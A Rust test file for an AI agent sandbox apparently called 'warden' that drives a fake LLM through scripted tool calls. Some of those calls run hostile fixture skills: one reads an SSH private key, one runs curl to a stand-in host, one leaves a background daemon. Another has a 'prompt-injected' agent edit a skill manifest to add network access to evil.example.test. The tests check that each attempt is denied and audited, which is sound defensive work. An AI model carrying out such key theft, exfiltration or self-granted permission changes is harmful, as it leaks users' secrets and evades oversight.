//! The agent's `skill` tool through the real `warden run` binary and a fake LLM: the system
//! prompt lists only runnable skills, the model reads a SKILL.md with `read`, runs skills, and
//! gets every refusal back with its reason — which is also in the audit log.

use crate::support::fake_llm::{FakeLlm, Turn};
use crate::support::skills::{hosts_config, Server, SkillEnv};
use serde_json::json;

/// `warden run PROMPT` against the fake LLM; returns stdout and stderr.
async fn run_agent(env: SkillEnv, llm: &FakeLlm, prompt: &str) -> (SkillEnv, String) {
    let mut env = env;
    env.env.push(("ANTHROPIC_BASE_URL".into(), llm.base_url()));
    let prompt = prompt.to_string();
    tokio::task::spawn_blocking(move || {
        let out = env.warden(&["run", &prompt]);
        assert_eq!(out.code, 0, "{out:?}");
        let text = out.all();
        (env, text)
    })
    .await
    .unwrap()
}

#[tokio::test]
async fn the_agent_runs_granted_skills_and_hears_why_others_are_refused() {
    let allowed = Server::start();
    let other = Server::start();
    let env = SkillEnv::new(&hosts_config(&allowed, &other));
    let key = env.home.join(".ssh/id_rsa");
    std::fs::write(
        env.fixture("steal-secrets").join("targets.txt"),
        format!("{}\n", key.display()),
    )
    .unwrap();
    for name in ["steal-secrets", "weather", "exfiltrate", "daemon"] {
        env.install(name);
    }
    // In the workspace but never granted: its description must not reach the prompt.
    let ungranted = env.ws.join("skills/shapeshifter");
    std::fs::create_dir_all(&ungranted).unwrap();
    for file in ["SKILL.md", "skill.toml", "count.py"] {
        std::fs::copy(env.fixture("shapeshifter").join(file), ungranted.join(file)).unwrap();
    }
    let bundled_md = env.data.join("bundled-skills/csv-stats/SKILL.md");

    let llm = FakeLlm::anthropic(vec![
        Turn::tool_use("read", json!({"path": bundled_md.display().to_string()})),
        Turn::tool_use("skill", json!({"name": "steal-secrets"})),
        Turn::tool_use("skill", json!({"name": "weather", "args": ["Oslo"]})),
        Turn::tool_use(
            "skill",
            json!({"name": "exfiltrate", "command": "curl http://other.example.test/x"}),
        ),
        Turn::tool_use("skill", json!({"name": "shapeshifter", "args": ["a"]})),
        Turn::tool_use("skill", json!({"name": "daemon", "args": ["agent-daemon"]})),
        Turn::text("Done."),
    ])
    .await;
    let (env, output) = run_agent(env, &llm, "use your skills").await;
    assert!(output.contains("Done."), "{output}");
    let requests = llm.requests();

    let system = requests[0].system().unwrap();
    assert!(requests[0].tool_names().contains(&"skill".to_string()));
    assert!(system.contains("## Skills"), "{system}");
    for listed in [
        "- csv-stats: Summarize a CSV",
        "- weather: Look up the weather",
        "- steal-secrets:",
    ] {
        assert!(system.contains(listed), "{listed} missing:\n{system}");
    }
    assert!(
        system.contains(&bundled_md.display().to_string()),
        "{system}"
    );
    assert!(
        system.contains("Not runnable until the user reviews and grants them"),
        "{system}"
    );
    assert!(
        !system.contains("Count the words"),
        "an ungranted description reached the prompt"
    );

    let result = |i: usize| requests[i].tool_results().pop().unwrap();
    let read = result(1);
    assert!(read.content.contains("name: csv-stats"), "{}", read.content);

    let stolen = result(2);
    let denied = format!(
        "PermissionError: [Errno 13] Permission denied: '{}'",
        key.display()
    );
    assert!(stolen.content.contains(&denied), "{}", stolen.content);
    assert!(
        stolen.content.contains("[exit code 1]"),
        "{}",
        stolen.content
    );

    let forecast = result(3);
    assert!(
        forecast
            .content
            .contains("forecast for /forecast?city=Oslo: sunny"),
        "{}",
        forecast.content
    );
    assert!(
        forecast
            .content
            .contains("[egress allowed: api.example.test:80"),
        "{}",
        forecast.content
    );

    let curl = result(4);
    assert!(curl.is_error);
    assert!(
        curl.content.starts_with("Denied: curl: a network tool"),
        "{}",
        curl.content
    );

    let ungranted_run = result(5);
    assert!(
        ungranted_run
            .content
            .contains("the skill shapeshifter is not granted"),
        "{}",
        ungranted_run.content
    );

    let daemon = result(6);
    assert!(
        daemon
            .content
            .contains("[warden killed 1 process(es) the skill left running in the background]"),
        "{}",
        daemon.content
    );

    // Nothing secret went to the model, and every run is audited under its skill's name.
    for request in &requests {
        env.assert_no_secret(&request.body.to_string());
    }
    assert!(env
        .last_audit("skill:steal-secrets")
        .reason
        .contains(&denied));
    assert!(env
        .last_audit("skill:exfiltrate")
        .reason
        .contains("curl: a network tool"));
    assert!(env
        .last_audit("skill:shapeshifter")
        .reason
        .contains("not granted"));
    assert!(env
        .last_audit("skill:daemon")
        .reason
        .contains("killed 1 process(es)"));
    // The tool call itself is audited too, in the same session as the skill's run.
    let session = env.last_audit("skill:weather").session;
    assert_eq!(env.last_audit("skill").session, session);
    assert_ne!(session, "cli");
    assert_eq!(env.audit().iter().filter(|r| r.tool == "skill").count(), 5);
    assert_eq!(other.connections(), 0);
}

#[tokio::test]
async fn a_manifest_the_agent_edits_stops_the_skill_until_the_user_grants_it_again() {
    let env = SkillEnv::new("");
    env.install("shapeshifter");
    let llm = FakeLlm::anthropic(vec![
        Turn::tool_use("skill", json!({"name": "shapeshifter", "args": ["a", "b"]})),
        // A prompt-injected model widens the skill it just ran.
        Turn::tool_use(
            "edit",
            json!({
                "path": "skills/shapeshifter/skill.toml",
                "old_string": "interpreters = [\"python3\"]",
                "new_string": "interpreters = [\"python3\"]\n\n[permissions.network]\ndomains = [\"evil.example.test\"]"
            }),
        ),
        Turn::tool_use("skill", json!({"name": "shapeshifter", "args": ["a"]})),
        Turn::text("It stopped working."),
    ])
    .await;
    let (env, _) = run_agent(env, &llm, "count words").await;
    let requests = llm.requests();
    let first = requests[1].tool_results().pop().unwrap();
    assert!(first.content.contains("2 words"), "{}", first.content);
    let edit = requests[2].tool_results().pop().unwrap();
    assert!(
        !edit.is_error,
        "the workspace is the agent's to edit: {}",
        edit.content
    );
    let refused = requests[3].tool_results().pop().unwrap();
    assert!(refused.is_error);
    assert!(
        refused
            .content
            .contains("Denied: the skill shapeshifter changed since it was granted"),
        "{}",
        refused.content
    );
    env.assert_audited("skill:shapeshifter", "deny", "changed since it was granted");
}
